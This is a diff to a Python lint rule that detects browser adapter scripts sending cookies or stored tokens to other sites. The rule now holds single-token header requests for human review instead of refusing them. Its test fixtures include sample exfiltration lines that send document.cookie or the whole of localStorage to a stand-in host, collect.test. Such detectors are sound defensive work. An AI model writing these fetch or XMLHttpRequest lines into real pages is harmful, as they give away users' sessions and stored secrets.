@@ -2,7 +2,9 @@
 
 ## What it does
 Refuses two things: a value read from cookies or storage that goes into a request to another site, and a request to
-another site that carries the user's cookies of that site. Hosts with the same registrable domain are one site.
+another site that carries the user's cookies of that site. Hosts with the same registrable domain are one site. One
+named item of the storage that goes into the headers of a request to a literal host is how many sites talk to their own
+API under another name: such an adapter is held, not refused.
 
 ## Why it matters
 The script runs in the user's session. A cookie or token that leaves its site is an account given away, and an adapter
@@ -18,28 +20,23 @@ There is no automatic fix. Where the other host only serves public data, `creden
 
 from __future__ import annotations
 
-from bisect import bisect_left, insort
-from typing import TYPE_CHECKING
-
 from adapterc.spec.diagnostics import Sink
 from adapterc.spec.expr import Template
 from adapterc.spec.ir import AdapterIR, Evaluate, Request
 from adapterc.spec.span import Span
-from adapterc.whitelist.analysis.names import under
 from adapterc.whitelist.analysis.pieces import constants
 from adapterc.whitelist.analysis.requests import Sent, option, requests
 from adapterc.whitelist.analysis.scripts import Body, bodies
 from adapterc.whitelist.analysis.sites import same_site
+from adapterc.whitelist.analysis.taint import Taint
 from adapterc.whitelist.analysis.targets import target_of
 from adapterc.whitelist.profiles import Profile
-
-if TYPE_CHECKING:
-    from tree_sitter import Node
 
 __all__ = ["CODE", "INVALID", "VALID", "check"]
 
 CODE = "AC521"
 VALID = (
+    "fetch('https://shop-api.test/me', { headers: { token: localStorage.getItem('t') } })",
     "fetch('https://api.shop.test/me', { headers: { 'X-CSRF': document.cookie }, credentials: 'include' })",
     "fetch('/me', { headers: { 'X-CSRF': localStorage.getItem('t') } })",
     "fetch('https://cdn.other.test/list.json')",
@@ -61,6 +58,18 @@ INVALID = (
         "1:7 the user's cookies of `bank.test` are sent from a page of `shop.test`",
     ),
     (
+        "fetch('https://collect.test/', { headers: { all: JSON.stringify(localStorage) } })",
+        "1:7 what `shop.test` keeps for the user is sent to `collect.test`",
+    ),
+    (
+        "fetch('https://collect.test/', { headers: { token: document.cookie } })",
+        "1:7 what `shop.test` keeps for the user is sent to `collect.test`",
+    ),
+    (
+        "fetch('https://collect.test/?t=' + localStorage.getItem('t'), { headers: { t: localStorage.getItem('t') } })",
+        "1:7 what `shop.test` keeps for the user is sent to `collect.test`",
+    ),
+    (
         "const x = new XMLHttpRequest(); x.open('POST', 'https://collect.test/'); x.send(document.cookie)",
         "1:48 what `shop.test` keeps for the user is sent to `collect.test`",
     ),
@@ -77,13 +86,15 @@ def check(ir: AdapterIR, profile: Profile, sink: Sink, /) -> None:
     if not home:
         return
     for body in bodies(ir):
-        taint: _Taint | None = None
+        taint: Taint | None = None
         for sent in requests(body):
             foreign = sorted({t.host for t in sent.targets if t.kind == "host" and not same_site(t.host, home)})
             if not foreign:
                 continue
-            taint = taint or _Taint(body)
+            taint = taint or Taint(body)
             span = body.script.span(sent.url)
+            if taint.is_token(sent):
+                continue  # held by `infer_effects`: a person has to know that this host is the site's own
             if taint.reaches(sent):
                 message = f"what `{home}` keeps for the user is sent to `{foreign[0]}`"
                 sink.report(CODE, message, span, help="leave it out: what a site stores stays on the site")
@@ -117,55 +128,3 @@ def _includes(body: Body, sent: Sent) -> bool:
         if state != "absent" and (not texts or "include" in texts):
             return True
     return False
-
-
-class _Taint:
-    """Which parts of a body hold something that the page keeps for the user. A name is tainted by any part of what it
-    is given, a parameter by what any caller passes."""
-
-    def __init__(self, body: Body) -> None:
-        self.body = body
-        self._places = sorted(
-            node.start_byte for node, path in body.paths if any(under(path, name) for name in _STORES)
-        )
-        declarations = body.script.scopes.declarations
-        known = set(self._places)
-        todo = bool(known)
-        while todo:
-            todo = False
-            for declaration in declarations:
-                uses = {use.node.start_byte for use in declaration.references}
-                if uses and not uses <= known and self._given(declaration.node):
-                    for place in uses - known:
-                        insort(self._places, place)
-                    known |= uses
-                    todo = True
-
-    def _given(self, declared: Node) -> bool:
-        for how, node in self.body.index.sources(declared):
-            if how != "parameter":
-                if self.inside(node):
-                    return True
-                continue
-            position = self.body.index.position(node, declared)
-            passed = None if position is None else self.body.index.arguments_for(node, position)
-            if passed and any(self.inside(part) for part in passed):
-                return True
-        parent = self.body.index.parent(declared)
-        return parent is not None and parent.type == "function_declaration" and self.inside(parent)
-
-    def inside(self, node: Node) -> bool:
-        """True when a tainted part stands in `node`."""
-        index = bisect_left(self._places, node.start_byte)
-        return index < len(self._places) and self._places[index] < node.end_byte
-
-    def reaches(self, sent: Sent) -> bool:
-        """True when the request itself, or what is later given to its `send`, holds a tainted part."""
-        parts = self.body.index.arguments(sent.place)
-        if sent.xhr:
-            for call in self.body.index.of("call_expression"):
-                callee = self.body.index.callee(call)
-                member = callee is not None and callee.type == "member_expression"
-                if callee is not None and member and self.body.index.key_of(callee) in ("send", "setRequestHeader"):
-                    parts = [*parts, *self.body.index.arguments(call)]
-        return any(self.inside(part) for part in parts)
